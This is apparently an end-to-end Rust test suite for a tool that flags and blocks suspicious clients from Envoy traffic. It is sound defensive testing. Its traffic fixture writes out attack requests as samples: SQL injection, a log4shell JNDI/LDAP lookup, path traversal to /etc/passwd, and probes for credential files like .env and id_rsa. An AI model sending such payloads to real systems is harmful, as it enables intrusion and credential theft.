//! From requests that reach Envoy to suspects, and from suspects to refusals.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use ipwarden_e2e::{Options, System, eventually, raw_request};
use serde_json::{Value, json};

/// A site with pages that are missing below `/missing/`.
fn site(settings: &str) -> Options {
    let missing = json!({"match": {"prefix": "/missing/"}, "direct_response": {"status": 404}});
    Options { upstream_routes: vec![missing], settings: settings.to_owned(), ..Options::default() }
}

/// Twelve different pages that are not there, as fast as they are answered.
async fn probe(system: &System, client: &str) {
    for n in 0..12 {
        let reply = system.request(client, &format!("/missing/{n}"), &[]).await;
        assert_eq!(reply.status, 404);
    }
}

/// The suspect of an address, and how long it took to appear.
async fn suspect(system: &System, client: &str) -> (Value, Duration) {
    let mut found = Value::Null;
    let took = eventually("the address is a suspect", async || {
        let page = system.api("GET", &format!("/v1/suspects?target={client}"), None).await;
        found = page["suspects"][0].clone();
        found.is_object()
    })
    .await;
    (found, took)
}

#[tokio::test(flavor = "multi_thread")]
async fn twelve_missing_pages_make_a_suspect_within_two_seconds() {
    let system = System::start(site("")).await;
    probe(&system, "203.0.113.7").await;
    let (suspect, took) = suspect(&system, "203.0.113.7").await;
    println!("a suspect after {took:?}");
    assert!(took < Duration::from_secs(2), "{took:?}");
    assert_eq!(
        (&suspect["status"], &suspect["severity"], &suspect["decision"]),
        (&json!("open"), &json!("high"), &Value::Null),
        "{suspect}"
    );
    let reason = &suspect["reasons"][0];
    assert_eq!((&reason["rule"], &reason["source"]), (&json!("probing"), &json!("streaming")));
    let words = reason["detail"].as_str().unwrap_or_default();
    assert!(words.contains("requests for different pages that do not exist"), "{words}");
    let evidence = reason["evidence"].as_array().expect("evidence");
    assert!(!evidence.is_empty(), "{reason}");
    for request in evidence {
        assert_eq!((&request["method"], &request["status"]), (&json!("GET"), &json!(404)));
        assert!(request["path"].as_str().is_some_and(|path| path.starts_with("/missing/")));
    }
    // By default people decide about that.
    assert_eq!(system.status("203.0.113.7").await, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn who_probes_is_refused_a_second_later_where_the_policy_blocks() {
    let system = System::start(site("[detect]\nhigh = \"block\"\n")).await;
    probe(&system, "203.0.113.7").await;
    let (_, took) = suspect(&system, "203.0.113.7").await;
    let refused = system.settles("203.0.113.7", 403).await;
    println!("a suspect after {took:?}, refused {refused:?} later");
    assert!(took < Duration::from_secs(2), "{took:?}");
    assert!(refused < Duration::from_secs(1), "{refused:?}");
    assert_eq!(system.status("203.0.113.8").await, 200, "neighbours are not punished");
    let check = system.api("GET", "/v1/decisions/check?ip=203.0.113.7", None).await;
    assert_eq!(check["decision"]["origin"], "detector:probing", "{check}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_pass_finds_a_hundred_and_one_requests_and_a_visit_of_admin() {
    let system = System::start(site("")).await;
    let hour = loop {
        for _ in 0..101 {
            system.request("203.0.113.1", "/", &[]).await;
        }
        system.request("203.0.113.2", "/admin", &[]).await;
        eventually("all are stored", async || {
            system.records("ip=203.0.113.1").await.len() % 101 == 0
                && !system.records("ip=203.0.113.2").await.is_empty()
        })
        .await;
        let mut records = system.records("ip=203.0.113.1").await;
        records.truncate(101);
        records.extend(system.records("ip=203.0.113.2").await.into_iter().take(1));
        let hour = |record: &Value| record["time"].as_str().map(|time| time[..13].to_owned());
        let first = hour(&records[0]).expect("a time");
        // Once a day the hour ends in between.
        if records.iter().all(|record| hour(record).as_ref() == Some(&first)) {
            break first;
        }
    };
    let detected = system.cli(&["detect", "--hour", &hour, "-o", "json"]).await;
    let found: Value = serde_json::from_slice(&detected.stdout).expect("JSON");
    let flags = found["flags"].as_array().expect("flags");
    let flagged = |target: &str, rule: &str, words: &str| {
        flags.iter().any(|flag| {
            flag["target"] == target
                && flag["rule"] == rule
                && flag["detail"].as_str().is_some_and(|detail| detail.starts_with(words))
        })
    };
    assert!(flagged("203.0.113.1", "hourly-volume", "101 requests in the hour"), "{found}");
    assert!(
        flagged("203.0.113.2", "sensitive-path", "visited the sensitive path /admin"),
        "{found}"
    );
    for client in ["203.0.113.1", "203.0.113.2"] {
        let (suspect, _) = suspect(&system, client).await;
        assert_eq!(suspect["status"], "open", "{suspect}");
        assert_eq!(system.status(client).await, 200, "neither is blocked");
    }
}

/// Where Envoy writes what it answers, as its JSON access log.
fn access_log(path: &std::path::Path) -> (String, String) {
    let format = json!({
        "start_time": "%START_TIME(%Y-%m-%dT%H:%M:%S.%6fZ)%",
        "method": "%REQ(:METHOD)%",
        "path": "%REQ(X-ENVOY-ORIGINAL-PATH?:PATH)%",
        "response_code": "%RESPONSE_CODE%",
        "bytes_sent": "%BYTES_SENT%",
        "user_agent": "%REQ(USER-AGENT)%",
        "authority": "%REQ(:AUTHORITY)%",
        "downstream_remote_address": "%DOWNSTREAM_REMOTE_ADDRESS%",
    });
    let logger = json!([{
        "name": "envoy.access_loggers.file",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.access_loggers.file.v3.FileAccessLog",
            "path": path,
            "log_format": {"json_format": format},
        },
    }]);
    let before = "          stat_prefix: site\n".to_owned();
    (before.clone(), format!("{before}          access_log: {logger}\n"))
}

/// One request of [`traffic`].
struct Ask {
    client: String,
    method: &'static str,
    target: String,
    agent: String,
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
/// An office, a monitor, a crawler that takes its time, a client of an API, a broken bookmark.
const INNOCENTS: [&str; 5] =
    ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4", "203.0.113.5"];
/// Who must be found, and by which rule.
const SUSPECTS: [(&str, &str); 10] = [
    ("203.0.113.10", "probing"),
    ("203.0.113.11", "login-guessing"),
    ("203.0.113.12", "sensitive-files"),
    ("203.0.113.13", "sql-injection"),
    ("203.0.113.14", "log4shell"),
    ("203.0.113.15", "traversal"),
    ("203.0.113.16", "scanner-user-agent"),
    ("203.0.113.17", "crawling"),
    ("203.0.113.18", "switching-user-agents"),
    ("2001:db8:1:2::/64", "probing"),
];

/// Five harmless clients and ten that are not.
fn traffic() -> Vec<Ask> {
    let mut all = Vec::new();
    let mut ask = |client: &str, method, target: String, agent: &str| {
        all.push(Ask { client: client.to_owned(), method, target, agent: agent.to_owned() });
    };
    for n in 0..60 {
        let program = format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/{}.0", n % 20);
        ask(INNOCENTS[0], "GET", format!("/page/{}", n % 12), &program);
        ask(INNOCENTS[1], "GET", "/status".to_owned(), "kube-probe/1.31");
        ask(INNOCENTS[3], "GET", format!("/api/orders?page={n}"), "okhttp/4.12.0");
    }
    for n in 0..20 {
        ask(INNOCENTS[2], "GET", format!("/product/{n}"), "ExampleBot/1.0");
        ask(INNOCENTS[4], "GET", "/missing/bookmark".to_owned(), BROWSER);
        ask(INNOCENTS[0], "GET", format!("/missing/{n}.png"), BROWSER);
        ask("203.0.113.10", "GET", format!("/missing/{n}"), BROWSER);
        // Five of them reach the site, a limit of the demo refuses the rest.
        ask("203.0.113.11", "POST", "/login".to_owned(), BROWSER);
    }
    for file in ["/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/id_rsa", "/.npmrc"]
    {
        ask("203.0.113.12", "GET", format!("/missing{file}"), BROWSER);
    }
    for n in 0..6 {
        ask("203.0.113.13", "GET", format!("/item?id={n}'%20UNION%20SELECT%201,2,3--"), BROWSER);
    }
    ask("203.0.113.14", "GET", "/x?q=$%7Bjndi:ldap://198.51.100.9/a%7D".to_owned(), BROWSER);
    ask("203.0.113.15", "GET", "/show?file=..%2f..%2f..%2f..%2fetc%2fpasswd".to_owned(), BROWSER);
    ask("203.0.113.16", "GET", "/".to_owned(), "sqlmap/1.8.2#stable (https://sqlmap.org)");
    for n in 0..130 {
        ask("203.0.113.17", "GET", format!("/product/{n}"), BROWSER);
        ask("203.0.113.18", "GET", "/".to_owned(), &format!("Program{n}/1.0"));
    }
    // One customer hopping in a /64.
    for n in 0..16 {
        ask(&format!("2001:db8:1:2::{n:x}"), "GET", format!("/missing/{n}"), BROWSER);
    }
    all
}

/// The rules that flagged each address.
fn by_address(suspects: &Value, key: &str) -> BTreeMap<String, BTreeSet<String>> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let suspects = suspects.as_array().expect("suspects");
    let rules = |suspect: &Value| {
        let reasons = suspect["reasons"].as_array().expect("reasons");
        reasons.iter().map(|reason| text(&reason["rule"])).collect()
    };
    suspects.iter().map(|suspect| (text(&suspect[key]), rules(suspect))).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_replay_of_envoys_log_finds_what_the_running_system_found() {
    let directory = tempfile::tempdir().expect("a directory");
    let log = directory.path().join("access.log");
    // Blocks would change the answers in the middle.
    let mut options = site("[detect]\ncritical = \"review\"\n");
    options.replace.push(access_log(&log));
    options.upstream_routes.push(json!({
        "match": {
            "path": "/login",
            "headers": [{"name": ":method", "string_match": {"exact": "POST"}}],
        },
        "direct_response": {"status": 401},
    }));
    let system = System::start(options).await;
    let traffic = traffic();
    for Ask { client, method, target, agent } in &traffic {
        let request = format!(
            "{method} {target} HTTP/1.1\r\nhost: site.example\r\nx-forwarded-for: {client}\r\n\
             user-agent: {agent}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
        );
        raw_request(system.site_port, request.as_bytes()).await;
    }
    let mut lines = String::new();
    eventually("Envoy has written its log", async || {
        lines = std::fs::read_to_string(&log).unwrap_or_default();
        lines.lines().count() == traffic.len() && lines.ends_with('\n')
    })
    .await;
    let refused = lines.lines().filter(|line| line.contains("\"response_code\":429")).count();
    assert_eq!(refused, 15, "a limit refuses most of the log-ins");
    let replayed = system.cli(&["replay", &log.to_string_lossy(), "--all", "-o", "json"]).await;
    let replayed: Value = serde_json::from_slice(&replayed.stdout).expect("JSON");
    assert_eq!((&replayed["lines"], &replayed["rejected"]), (&json!(traffic.len()), &json!(0)));
    let found = by_address(&replayed["suspects"], "ip");
    for (address, rule) in SUSPECTS {
        assert!(
            found.get(address).is_some_and(|rules| rules.contains(rule)),
            "{address}: {found:?}"
        );
    }
    for innocent in INNOCENTS {
        assert!(!found.contains_key(innocent), "{innocent}: {found:?}");
    }
    println!("{} suspects in {} requests: {found:#?}", found.len(), traffic.len());
    // Of the log's hours, of which there may be two, the pass knows as much as the replay.
    let hours: BTreeSet<String> = lines
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter_map(|line| Some(line["start_time"].as_str()?.get(..13)?.to_owned()))
        .collect();
    let mut running = BTreeMap::new();
    eventually("the running system finds the same", async || {
        for hour in &hours {
            system.cli(&["detect", "--hour", hour, "-o", "json"]).await;
        }
        let page = system.api("GET", "/v1/suspects?limit=1000", None).await;
        running = by_address(&page["suspects"], "target");
        if running != found {
            println!("not yet: {running:?}");
        }
        running == found
    })
    .await;
}
